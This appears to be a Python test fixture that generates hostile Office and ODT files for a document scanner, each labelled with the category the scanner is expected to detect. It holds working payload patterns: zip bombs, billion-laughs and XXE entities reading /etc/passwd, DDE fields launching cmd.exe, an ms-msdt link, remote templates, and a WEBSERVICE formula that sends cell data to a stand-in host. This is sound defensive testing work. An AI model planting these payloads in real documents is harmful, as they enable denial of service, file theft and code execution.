"""Hostile Office files: bombs, macros, objects, and what loads from elsewhere."""

# ruff: noqa: E501  one line a file reads best

import struct

from tests.hostile.hostile_file import (
    DOCX_TYPE,
    EICAR,
    HTML,
    MIB,
    ODT_TYPE,
    PPTX_TYPE,
    XLSX_TYPE,
    HostileFile,
)
from tests.hostile.zips import archive

KINDS = {
    "docx": ("wordprocessingml.document", "word/document.xml"),
    "xlsx": ("spreadsheetml.sheet", "xl/workbook.xml"),
    "pptx": ("presentationml.presentation", "ppt/presentation.xml"),
}
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
BODY = f'<w:document xmlns:w="{WORD}"><w:body>%s</w:body></w:document>'


def office(ending, *more, body="", types="", main="", head=""):
    """A small, honest Office file; `more` entries replace or follow the usual ones."""
    kind, place = KINDS[ending]
    main = main or f"application/vnd.openxmlformats-officedocument.{kind}.main+xml"
    entries = {
        "[Content_Types].xml": (
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/{place}" ContentType="{main}"/>{types}</Types>'
        ),
        "_rels/.rels": relations(("officeDocument", place, "")),
        place: head + BODY % body,
    }
    return archive([*{**entries, **dict(more)}.items()])


def relations(*rows):
    lines = "".join(
        f'<Relationship Id="r{n}" Type="{RELATION}/{kind}" Target="{target}"'
        + (f' TargetMode="{mode}"' if mode else "")
        + "/>"
        for n, (kind, target, mode) in enumerate(rows)
    )
    return f'<Relationships xmlns="{RELATION}">{lines}</Relationships>'


def docx_linking(kind, target, mode="External"):
    return office("docx", ("word/_rels/settings.xml.rels", relations((kind, target, mode))))


def field(*pieces):
    return "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)


def sheet(inner):
    return office("xlsx", ("xl/worksheets/sheet1.xml", f"<worksheet>{inner}</worksheet>"))


LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "ha">'
    + "".join(
        f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefghi", "bcdefghij", strict=True)
    )
    + "]>"
)
XXE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)


def odt(*more, manifest="", content="", mimetype=ODT_TYPE):
    entries = {
        "mimetype": mimetype,
        "META-INF/manifest.xml": f"<manifest:manifest xmlns:manifest='m'>{manifest}</manifest:manifest>",
        "content.xml": f"<o:d xmlns:o='o' xmlns:xlink='x' xmlns:t='t' xmlns:draw='d'>{content}</o:d>",
    }
    return archive([*{**entries, **dict(more)}.items()])


def overlapping(count=200):
    """Each entry of the directory points at the same packed megabytes."""
    content = bytearray(office("docx", ("word/big.xml", b"<a>" + bytes(5 * MIB))))
    end = content.rindex(b"PK\x05\x06")
    start = struct.unpack_from("<I", content, end + 16)[0]
    directory, last = bytes(content[start:end]), content.rindex(b"PK\x01\x02")
    entry = bytes(content[last:end])
    name = len("word/big.xml")
    more = b"".join(
        entry[:46] + f"word/bi{n:03}.x".encode()[:name].ljust(name, b"l") + entry[46 + name :]
        for n in range(count)
    )
    total = struct.unpack_from("<H", content, end + 10)[0] + count
    tail = struct.pack(
        "<4s4H2LH", b"PK\x05\x06", 0, 0, total, total, len(directory) + len(more), start, 0
    )
    return bytes(content[:start]) + directory + more + tail


def lying_size():
    """The directory says 100 bytes where 300 MB come out."""
    content = bytearray(office("docx", ("word/big.bin", bytes(300 * MIB))))
    last = content.rindex(b"PK\x01\x02")
    content[last + 24 : last + 28] = struct.pack("<I", 100)
    return bytes(content)


def with_password():
    content = bytearray(office("docx"))
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = -1
        while (start := content.find(mark, start + 1)) >= 0:
            content[start + place] |= 1
    return bytes(content)


def nested_zip(depth=6):
    content = archive([("0.dll", bytes(4 * MIB))])
    for n in range(depth):
        content = archive([(f"{n}-{m}.zip", content) for m in range(8)])
    return content


def workbook_in(content):
    return office("pptx", ("ppt/embeddings/Microsoft_Excel_Sheet1.xlsx", content))


OFFICE = [
    HostileFile("b.docx", lambda: office("docx", ("word/a.xml", b"<a>" + b" " * 300 * MIB)), DOCX_TYPE, "too_big_unpacked", "zip bomb, 300 MB"),
    HostileFile("b.xlsx", lambda: office("xlsx", *((f"xl/{n}.bin", bytes(MIB)) for n in range(250))), XLSX_TYPE, "too_big_unpacked", "zip bomb, 250 × 1 MB"),
    HostileFile("b.docx", lambda: office("docx", *((f"word/{n}.xml", b"") for n in range(2500))), DOCX_TYPE, "too_complex", "2,500 entries"),
    HostileFile("b.xlsx", lambda: office("xlsx", *((f"xl/{n}", b"") for n in range(100_000))), XLSX_TYPE, "too_complex", "100,000 entries"),
    HostileFile("b.docx", overlapping, DOCX_TYPE, "damaged|too_big_unpacked", "overlapping entries"),
    HostileFile("b.docx", lying_size, DOCX_TYPE, "damaged|too_big_unpacked", "size in the directory is a lie"),
    HostileFile("b.docx", lambda: office("docx", ("word/x.zip", nested_zip(3))), DOCX_TYPE, "embedded", "archives in archives"),
    HostileFile("b.docx", nested_zip, DOCX_TYPE, "unknown_office", "42.zip"),
    HostileFile("b.pptx", lambda: workbook_in(workbook_in(sheet(""))), PPTX_TYPE, "embedded", "workbook in workbook"),
    HostileFile("b.docx", lambda: office("docx", head=LAUGHS, body="&j;"), DOCX_TYPE, "damaged", "billion laughs in DOCX"),
    HostileFile("b.xlsx", lambda: office("xlsx", ("xl/sharedStrings.xml", f"{LAUGHS}<x>&j;</x>")), XLSX_TYPE, "damaged", "billion laughs in XLSX"),
    HostileFile("b.docx", lambda: office("docx", head=XXE, body="&a;"), DOCX_TYPE, "damaged", "XXE in DOCX"),
    HostileFile("b.xlsx", lambda: office("xlsx", ("[Content_Types].xml", f"{XXE}<Types>&a;</Types>")), XLSX_TYPE, "damaged", "XXE in the list of types"),
    HostileFile("b.docx", lambda: office("docx", ("word/_rels/a.xml.rels", f"{LAUGHS}<x>&j;</x>")), DOCX_TYPE, "damaged", "billion laughs in relations"),
    HostileFile("b.docx", lambda: office("docx", ("word/a.xml", f"{XXE}<x/>".encode("utf-16"))), DOCX_TYPE, "damaged", "XXE in UTF-16"),
    HostileFile("b.docx", lambda: office("docx", ("word/a.xml", "<a>" * 100_000)), DOCX_TYPE, "too_complex", "XML 100,000 deep"),
    HostileFile("b.docx", lambda: office("docx", ("word/vbaProject.bin", OLE)), DOCX_TYPE, "macros", "DOCX with vbaProject"),
    HostileFile("b.docx", lambda: office("docx", ("word/harmlos.dat", OLE)), DOCX_TYPE, "embedded", "vbaProject under another name"),
    HostileFile("b.docm", lambda: office("docx", main="application/vnd.ms-word.document.macroEnabled.main+xml"), DOCX_TYPE, "macros", "DOCM"),
    HostileFile("b.xlsx", lambda: office("xlsx", main="application/vnd.ms-excel.sheet.macroEnabled.main+xml"), XLSX_TYPE, "macros", "XLSM as .xlsx"),
    HostileFile("b.xlsx", lambda: office("xlsx", ("xl/macrosheets/sheet1.xml", "<x/>")), XLSX_TYPE, "macros", "Excel 4 macros"),
    HostileFile("b.docx", lambda: office("docx", ("word/activeX/activeX1.xml", "<x/>")), DOCX_TYPE, "macros", "ActiveX"),
    HostileFile("b.docx", lambda: docx_linking("attachedTemplate", "http://boese.example/a.dotm"), DOCX_TYPE, "linked", "template from elsewhere"),
    HostileFile("b.docx", lambda: docx_linking("oleObject", "mhtml:http://boese.example/x.html"), DOCX_TYPE, "embedded|linked", "OLE link"),
    HostileFile("b.docx", lambda: docx_linking("image", r"\\boese.example\a\b.png"), DOCX_TYPE, "linked", "picture from another host"),
    HostileFile("b.docx", lambda: docx_linking("hyperlink", "ms-msdt:/id PCWDiagnostic"), DOCX_TYPE, "linked", "link that starts a program"),
    HostileFile("b.docx", lambda: office("docx", ("word/embeddings/oleObject1.bin", OLE)), DOCX_TYPE, "embedded", "OLE object"),
    HostileFile("b.docx", lambda: office("docx", ("word/media/bild.png", b"MZ" + bytes(90))), DOCX_TYPE, "embedded", "program as a picture"),
    HostileFile("b.docx", lambda: office("docx", body=field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"')), DOCX_TYPE, "linked", "DDE"),
    HostileFile("b.docx", lambda: office("docx", body=field("DD", "EAU", "TO c:\\\\cmd.exe")), DOCX_TYPE, "linked", "DDE in pieces"),
    HostileFile("b.docx", lambda: office("docx", body='<w:fldSimple w:instr="DDE cmd calc"/>'), DOCX_TYPE, "linked", "DDE in a simple field"),
    HostileFile("b.docx", lambda: office("docx", body=field("QUOTE 68 68 69 65")), DOCX_TYPE, "linked", "DDE in numbers"),
    HostileFile("b.docx", lambda: office("docx", body=field("INCLUDEPICTURE http://boese.example/a")), DOCX_TYPE, "linked", "picture by field"),
    HostileFile("b.xlsx", lambda: sheet("<f>cmd|'/c calc'!A1</f>"), XLSX_TYPE, "linked", "DDE in a formula"),
    HostileFile("b.xlsx", lambda: sheet('<f>WEBSERVICE("http://boese.example/"&amp;A1)</f>'), XLSX_TYPE, "linked", "formula that asks other hosts"),
    HostileFile("b.xlsx", lambda: office("xlsx", ("xl/externalLinks/externalLink1.xml", '<externalLink><ddeLink ddeService="cmd"/></externalLink>')), XLSX_TYPE, "linked", "DDE link"),
    HostileFile("b.docx", lambda: office("docx", ("../../a.xml", "<x/>")), DOCX_TYPE, "damaged", "entry outside of the archive"),
    HostileFile("b.docx", with_password, DOCX_TYPE, "encrypted", "ZIP with a password"),
    HostileFile("b.docx", OLE, DOCX_TYPE, "old_office", "Office 97, or with a password"),
    HostileFile("b.docx", b"MZ\x90\x00" + bytes(500), DOCX_TYPE, "unknown_type", "program as .docx"),
    HostileFile("b.docx", lambda: archive([("a.txt", "hallo")]), DOCX_TYPE, "unknown_office", "any ZIP as .docx"),
    HostileFile("b.docx", lambda: office("docx")[:-30], DOCX_TYPE, "damaged", "DOCX, cut off"),
    HostileFile("b.docx", lambda: office("docx") + HTML, DOCX_TYPE, "mixed", "DOCX, HTML behind the end"),
    HostileFile("b.docx", lambda: office("docx", ("word/a.txt", EICAR)), DOCX_TYPE, "virus", "EICAR in DOCX"),
    HostileFile("b.zip", lambda: archive([("eicar.com", EICAR)], method=0), "application/zip", "virus", "EICAR in ZIP"),
    HostileFile("b.odt", lambda: odt(("Basic/Standard/Modul1.xml", "<x/>")), ODT_TYPE, "macros", "ODT with macros"),
    HostileFile("b.odt", lambda: odt(content='<t:event-listener t:name="on-load" xlink:href="vnd.sun.star.script:x"/>'), ODT_TYPE, "macros", "ODT with a listener"),
    HostileFile("b.odt", lambda: odt(content='<draw:image xlink:href="http://boese.example/a.png"/>'), ODT_TYPE, "linked", "ODT, picture from elsewhere"),
    HostileFile("b.odt", lambda: odt(("Object 1", OLE), content='<draw:object-ole xlink:href="./Object 1"/>'), ODT_TYPE, "embedded", "ODT with OLE"),
    HostileFile("b.odt", lambda: odt(manifest="<manifest:encryption-data/>"), ODT_TYPE, "encrypted", "ODT with a password"),
]  # fmt: skip
